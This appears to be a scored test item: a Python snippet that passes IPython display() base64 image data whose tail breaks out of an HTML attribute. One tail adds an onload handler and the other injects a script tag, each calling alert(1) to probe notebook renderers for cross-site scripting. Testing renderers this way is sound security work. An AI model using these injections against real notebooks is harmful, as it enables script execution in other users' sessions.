# why: a picture whose data ends the attribute that a page puts it into, and goes on with a script
# earns: 7
from IPython.display import display
begin = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk"
for tail in ['" onload="alert(1)" x="', '"><script>alert(1)</script><img src="']:
    display({"image/png": begin + tail, "image/jpeg": "/9j/4AAQSkZJRgABAQ" + tail}, raw=True)
decoded = 0
